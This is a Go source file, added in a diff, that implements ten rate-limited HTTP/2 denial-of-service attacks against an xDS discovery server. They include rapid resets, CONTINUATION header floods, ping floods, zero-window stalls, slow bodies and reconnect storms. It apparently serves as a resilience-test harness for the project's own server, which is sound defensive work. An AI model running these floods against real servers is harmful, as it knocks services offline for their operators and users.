@@ -1,0 +1,448 @@
+package abuse
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"sync/atomic"
+	"time"
+
+	core "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
+	discovery "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
+	"golang.org/x/net/http2"
+	"google.golang.org/protobuf/encoding/protowire"
+	"google.golang.org/protobuf/proto"
+
+	"github.com/chancery-xds/chancery/xds"
+)
+
+// An attack runs on one connection after the other until the context ends. It returns when its connection is of no
+// more use. It calls step before each of its steps, which keeps it to its rate.
+type attack struct {
+	name  string
+	conns int // connections at a time
+	rate  int // steps in a second, of all connections
+	step  string
+	run   func(ctx context.Context, a *attacker) error
+}
+
+// An attacker is the process of the attack.
+type attacker struct {
+	attack
+	from, to string
+	whole    context.Context // of the whole attack
+	steps    atomic.Int64
+	errors   atomic.Int64
+	began    time.Time
+}
+
+var attacks = []attack{
+	{"streams", 4, 20_000, "a stream with one request, left open", leaveOpen},
+	{"resets", 4, 20_000, "a stream with one request, reset at once", resets},
+	{"headers", 8, 5_000, "a block of 16 KiB of headers: without an end on every other connection, else as a stream of 60 KiB", endlessHeaders},
+	{"pings", 8, 50_000, "a SETTINGS and a PING frame, answers unread", controlFrames},
+	{"windows", 4, 10_000, "a stream that requests all resources with a window of no byte, or a WINDOW_UPDATE of one byte", shutWindows},
+	{"slow", 50, 5_000, "a byte of one of 200 requests on a connection", slowBodies},
+	{"half", 200, 2_000, "16 KiB of a request of 16 MiB that does not end", halfRequests},
+	{"acks", 20, 20_000, "an ACK or NACK of the last response", answers},
+	{"names", 20, 100, "a request with a name of 1 MB, or with 16,000 names", largeNames},
+	{"reconnects", 50, 1_000, "a connection with a stream of all resources, closed at the first response", reconnects},
+}
+
+// main is the whole program of the attacker's process.
+func (a *attacker) main(d time.Duration) {
+	ctx, cancel := context.WithTimeout(context.Background(), d)
+	defer cancel()
+	a.began, a.whole = time.Now(), ctx
+	done := make(chan struct{})
+	for range a.conns {
+		go func() {
+			defer func() { done <- struct{}{} }()
+			for ctx.Err() == nil {
+				own, end := context.WithCancel(ctx)
+				if err := a.run(own, a); err != nil && ctx.Err() == nil {
+					a.errors.Add(1)
+					pause(ctx, 20*time.Millisecond)
+				}
+				end()
+			}
+		}()
+	}
+	for range a.conns {
+		<-done
+	}
+	fmt.Fprintf(os.Stdout, "%d %d\n", a.steps.Load(), a.errors.Load())
+}
+
+// next waits until the rate allows another step.
+func (a *attacker) next(ctx context.Context) error {
+	due := time.Duration(a.steps.Add(1)) * time.Second / time.Duration(a.rate)
+	if wait := due - time.Since(a.began); wait > 2*time.Millisecond {
+		pause(ctx, wait)
+	}
+	return ctx.Err()
+}
+
+func (a *attacker) dial(ctx context.Context, read reader, s ...http2.Setting) (*peer, error) {
+	return dial(ctx, a.from, a.to, read, s...)
+}
+
+func pause(ctx context.Context, d time.Duration) {
+	select {
+	case <-time.After(d):
+	case <-ctx.Done():
+	}
+}
+
+// request is a request for all clusters.
+func request(version, nonce string, names ...string) []byte {
+	b, err := proto.Marshal(&discovery.DiscoveryRequest{
+		Node: &core.Node{Id: "attacker"}, TypeUrl: xds.Cluster.URL, VersionInfo: version, ResponseNonce: nonce, ResourceNames: names,
+	})
+	if err != nil {
+		panic(err)
+	}
+	return message(b)
+}
+
+// perConn is the number of streams that a connection may have.
+const perConn = 10_000
+
+func leaveOpen(ctx context.Context, a *attacker) error {
+	p, err := a.dial(a.whole, nil) // stays open until the attack ends
+	if err != nil {
+		return err
+	}
+	data := request("", "")
+	for range perConn {
+		if err := a.next(ctx); err != nil {
+			return err
+		}
+		if err := p.open(data); err != nil {
+			return err
+		}
+	}
+	return nil // another connection begins
+}
+
+func resets(ctx context.Context, a *attacker) error {
+	p, err := a.dial(ctx, nil)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	data := request("", "")
+	for {
+		if err := a.next(ctx); err != nil {
+			return err
+		}
+		if err := p.open(data); err != nil {
+			return err
+		}
+		if err := p.send(func() error { return p.WriteRSTStream(p.id, http2.ErrCodeCancel) }); err != nil {
+			return err
+		}
+	}
+}
+
+func endlessHeaders(ctx context.Context, a *attacker) error {
+	p, err := a.dial(ctx, nil)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	part := headers("x-filler " + strings.Repeat("x", 15<<10))
+	if a.steps.Load()%2 == 0 {
+		err := p.send(func() error {
+			return p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: part})
+		})
+		for err == nil {
+			if err = a.next(ctx); err == nil {
+				err = p.send(func() error { return p.WriteContinuation(1, false, part) })
+			}
+		}
+		return err
+	}
+	filler := strings.Repeat("x", 15<<10)
+	p.block = headers("a "+filler, "b "+filler, "c "+filler, "d "+filler)
+	for range perConn {
+		for range 3 {
+			if err := a.next(ctx); err != nil {
+				return err
+			}
+		}
+		err := p.send(func() error {
+			p.id = max(p.id+2, 3) | 1
+			rest := p.block
+			err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: p.id, BlockFragment: rest[:16<<10]})
+			for rest = rest[16<<10:]; err == nil && len(rest) > 0; {
+				n := min(len(rest), 16<<10)
+				err = p.WriteContinuation(p.id, n == len(rest), rest[:n])
+				rest = rest[n:]
+			}
+			return err
+		})
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+func controlFrames(ctx context.Context, a *attacker) error {
+	p, err := a.dial(ctx, func(*peer, http2.Frame) { <-ctx.Done() })
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	if err := p.open(request("", "")); err != nil {
+		return err
+	}
+	for i := 0; ; i++ {
+		if err := a.next(ctx); err != nil {
+			return err
+		}
+		err := p.send(func() error {
+			if err := p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1 + i%100)}); err != nil {
+				return err
+			}
+			return p.WritePing(false, [8]byte{byte(i)})
+		})
+		if err != nil {
+			return err
+		}
+	}
+}
+
+func shutWindows(ctx context.Context, a *attacker) error {
+	p, err := a.dial(ctx, nil, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	data := request("", "")
+	for i := range 4 * perConn {
+		if err := a.next(ctx); err != nil {
+			return err
+		}
+		if i < perConn {
+			err = p.open(data)
+		} else {
+			err = p.send(func() error { return p.WriteWindowUpdate(uint32(i%perConn)*2+1, 1) })
+		}
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+func slowBodies(ctx context.Context, a *attacker) error {
+	p, err := a.dial(ctx, nil)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	const streams = 200
+	whole := request("", "", strings.Repeat("n", 4000))
+	for range streams {
+		if err := p.open(whole[:1]); err != nil {
+			return err
+		}
+	}
+	for i := 1; i < len(whole); i++ {
+		for s := range uint32(streams) {
+			if err := a.next(ctx); err != nil {
+				return err
+			}
+			if err := p.send(func() error { return p.WriteData(2*s+1, false, whole[i:i+1]) }); err != nil {
+				return err
+			}
+		}
+	}
+	return nil
+}
+
+func halfRequests(ctx context.Context, a *attacker) error {
+	windows := make(chan int, 4096)
+	p, err := a.dial(ctx, func(_ *peer, f http2.Frame) {
+		if w, ok := f.(*http2.WindowUpdateFrame); ok && w.StreamID != 0 {
+			select {
+			case windows <- int(w.Increment):
+			default:
+			}
+		}
+	})
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	if err := p.open([]byte{0, 1, 0, 0, 0}); err != nil {
+		return err
+	}
+	part := make([]byte, 16<<10)
+	for room, sent := 65535-5, 0; sent < 1<<24-1; {
+		n := min(len(part), room, 1<<24-1-sent)
+		if n == 0 {
+			select {
+			case more := <-windows:
+				room += more
+			case <-ctx.Done():
+				return ctx.Err()
+			case <-time.After(time.Second):
+				return io.ErrNoProgress
+			}
+			continue
+		}
+		if err := a.next(ctx); err != nil {
+			return err
+		}
+		if err := p.send(func() error { return p.WriteData(1, false, part[:n]) }); err != nil {
+			return err
+		}
+		room, sent = room-n, sent+n
+	}
+	return nil
+}
+
+// answers reads the first response, and accepts and refuses it in turn for as long as it can.
+func answers(ctx context.Context, a *attacker) error {
+	said := make(chan [2]string, 1)
+	var body []byte
+	p, err := a.dial(ctx, func(p *peer, f http2.Frame) {
+		d, ok := f.(*http2.DataFrame)
+		if !ok {
+			return
+		}
+		body = append(body, d.Data()...)
+		version, nonce, rest, ok := response(body)
+		if body = rest; ok {
+			select {
+			case said <- [2]string{version, nonce}:
+			default:
+			}
+		}
+		_ = p.send(func() error {
+			_ = p.WriteWindowUpdate(0, max(1, d.Length))
+			return p.WriteWindowUpdate(d.StreamID, max(1, d.Length))
+		})
+	})
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	if err := p.open(request("", "")); err != nil {
+		return err
+	}
+	var last [2]string
+	select {
+	case last = <-said:
+	case <-ctx.Done():
+		return ctx.Err()
+	case <-time.After(5 * time.Second):
+		return io.ErrNoProgress
+	}
+	for i := 0; ; i++ {
+		select {
+		case last = <-said:
+		default:
+		}
+		if err := a.next(ctx); err != nil {
+			return err
+		}
+		var names []string
+		if i%3 == 1 {
+			names = []string{fmt.Sprint("name-", i%1000)} // another subscription, which needs a response
+		}
+		if err := p.send(func() error { return p.WriteData(p.id, false, request(last[0], last[1], names...)) }); err != nil {
+			return err
+		}
+	}
+}
+
+// response reads version and nonce of the first whole message of b, and returns the bytes that are not read.
+func response(b []byte) (version, nonce string, rest []byte, ok bool) {
+	if len(b) < 5 {
+		return "", "", b, false
+	}
+	n := int(b[1])<<24 | int(b[2])<<16 | int(b[3])<<8 | int(b[4])
+	if len(b) < 5+n {
+		return "", "", b, false
+	}
+	for m := b[5 : 5+n]; len(m) > 0; {
+		num, typ, k := protowire.ConsumeTag(m)
+		if k < 0 {
+			break
+		}
+		m = m[k:]
+		if typ == protowire.BytesType && (num == 1 || num == 5) {
+			v, _ := protowire.ConsumeBytes(m)
+			if num == 1 {
+				version = string(v)
+			} else {
+				nonce = string(v)
+			}
+		}
+		k = protowire.ConsumeFieldValue(num, typ, m)
+		if k < 0 {
+			break
+		}
+		m = m[k:]
+	}
+	return version, nonce, append([]byte(nil), b[5+n:]...), true
+}
+
+// largeNames sends whole requests as fast as the windows allow.
+func largeNames(ctx context.Context, a *attacker) error {
+	many := make([]string, 16_000)
+	for i := range many {
+		many[i] = fmt.Sprintf("%060d", i)
+	}
+	data := [][]byte{request("", "", strings.Repeat("n", 1<<20)), request("", "", many...)}
+	p, err := a.dial(ctx, nil)
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	if err := a.next(ctx); err != nil {
+		return err
+	}
+	whole := data[a.steps.Load()%2]
+	if err := p.open(whole[:16<<10]); err != nil {
+		return err
+	}
+	for rest := whole[16<<10:]; len(rest) > 0; { // beyond the window: a server may end the connection
+		n := min(len(rest), 16<<10)
+		if err := p.send(func() error { return p.WriteData(1, false, rest[:n]) }); err != nil {
+			return err
+		}
+		rest = rest[n:]
+		pause(ctx, time.Millisecond)
+	}
+	pause(ctx, time.Second)
+	return nil
+}
+
+func reconnects(ctx context.Context, a *attacker) error {
+	if err := a.next(ctx); err != nil {
+		return err
+	}
+	ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
+	defer cancel()
+	p, err := a.dial(ctx, func(p *peer, f http2.Frame) {
+		if _, ok := f.(*http2.DataFrame); ok {
+			cancel()
+		}
+	})
+	if err != nil {
+		return err
+	}
+	defer p.Close()
+	if err := p.open(request("", "")); err != nil {
+		return err
+	}
+	<-ctx.Done()
+	return nil
+}
